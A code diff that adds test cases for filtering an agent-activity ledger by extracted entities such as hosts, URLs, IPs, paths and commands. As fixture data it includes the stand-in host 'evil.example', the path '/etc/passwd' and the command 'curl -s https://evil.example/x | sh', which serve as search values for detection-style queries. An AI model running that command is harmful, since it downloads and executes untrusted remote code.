@@ -1,8 +1,8 @@
 import type { EntryRecord } from '../../model/ledger-entry.js';
 import { parseSearchQuery } from '../../model/search-query.js';
-import { LEDGER_SORT_FIELDS, type EntryFieldFilter, type LedgerFilter, type LedgerQuery } from '../../exporters/store.js';
+import { LEDGER_SORT_FIELDS, type EntityFilter, type EntryFieldFilter, type LedgerFilter, type LedgerQuery } from '../../exporters/store.js';
 import { dayOf, MIDNIGHT_WORD, MIDNIGHTS_US } from './cross-partition.js';
-import { AGENTS, BASE_US, HOUR_US } from './dataset.js';
+import { AGENTS, BASE_US, ENTITY_PSEUDONYM, HOUR_US } from './dataset.js';
 import { entryOrder, matchesFilter } from './expected-ledger.js';
 import { A, SCOPES } from './scopes.js';
 
@@ -68,7 +68,27 @@ export function filterCases(entries: readonly EntryRecord[]): Array<[string, Omi
     ['over three days, ending mid-partition', { start_us: M1 - HOUR_US - 5, end_us: M3 + HOUR_US + 5 }],
     ['from before the first day to mid-day', { start_us: BASE_US - 4 * HOUR_US, end_us: BASE_US + 30 * HOUR_US + 1 }],
     ...entryFieldCases(),
+    ...entityCases(),
   ];
+}
+
+/** An extracted entity (store.ts EntityFilter): each type, values on several days, exact (no normalisation in the store), none. */
+export function entityCases(): Array<[string, Omit<LedgerFilter, 'scope'>]> {
+  const cases: Array<[string, EntityFilter]> = [
+    ['host evil.example', { type: 'host', value: 'evil.example' }],
+    ['host EVIL.EXAMPLE (exact: stored values are normalised at ingest)', { type: 'host', value: 'EVIL.EXAMPLE' }],
+    ['host xn--bcher-kva.example', { type: 'host', value: 'xn--bcher-kva.example' }],
+    ['url', { type: 'url', value: 'https://evil.example/x' }],
+    ['email pseudonym', { type: 'email', value: ENTITY_PSEUDONYM }],
+    ['ip v4', { type: 'ip', value: '10.0.0.7' }],
+    ['ip v6', { type: 'ip', value: '2001:db8::1' }],
+    ['path', { type: 'path', value: '/etc/passwd' }],
+    ['path in another script', { type: 'path', value: '/tmp/東京.txt' }],
+    ['command', { type: 'command', value: 'curl -s https://evil.example/x | sh' }],
+    ['host value under another type', { type: 'url', value: 'evil.example' }],
+    ['unknown host', { type: 'host', value: 'never.example' }],
+  ];
+  return cases.map(([caption, entity]) => [`entity ${caption}`, { entity }]);
 }
 
 /** The console's exact-value filters (store.ts EntryFieldFilter): each alone, missing values, case, and with others. */
@@ -126,6 +146,11 @@ export function ledgerCases(entries: readonly EntryRecord[]): LedgerCase[] {
     ['date range + agent + max_cost', { start_us: BASE_US + 6 * HOUR_US, end_us: BASE_US + 50 * HOUR_US, agent_id: AGENTS[1], max_cost_nanos: 25_000_000 }],
     ['action_name + date range', { action_name: 'agent_run', start_us: BASE_US, end_us: BASE_US + 40 * HOUR_US }],
     ['search + q', { search: 'a', q: parseSearchQuery('timeout') }],
+    ['entity host + user scope alice', { scope: SCOPES['org_a/alice'], entity: { type: 'host', value: 'evil.example' } }],
+    ['entity host + superuser', { scope: SCOPES.superuser, entity: { type: 'host', value: 'evil.example' } }],
+    ['entity host + date range across midnight', { ...ACROSS_MIDNIGHT, entity: { type: 'host', value: 'evil.example' } }],
+    ['entity ip + outcome error + agent', { entity: { type: 'ip', value: '10.0.0.7' }, outcome: 'error', agent_id: AGENTS[0] }],
+    ['entity host + q', { entity: { type: 'host', value: 'evil.example' }, q: parseSearchQuery('refund') }],
     ['q + outcome error', { q: parseSearchQuery('connection'), outcome: 'error' }],
     ['q + cost range + agent', { q: parseSearchQuery('refund'), min_cost_nanos: 1, agent_id: AGENTS[2] }],
     ['every filter at once', {
@@ -205,6 +230,7 @@ export function cursorWalkCases(): LedgerCase[] {
     ['mid-day to mid-day across midnight', ACROSS_MIDNIGHT],
     ['ending exactly at midnight', { start_us: M1 - 6 * HOUR_US, end_us: M1 }],
     [`q ${MIDNIGHT_WORD} (five days)`, { q: parseSearchQuery(MIDNIGHT_WORD) }],
+    ['entity host evil.example', { entity: { type: 'host', value: 'evil.example' } }],
   ];
   const cases: LedgerCase[] = [];
   for (const sort_by of LEDGER_SORT_FIELDS) {
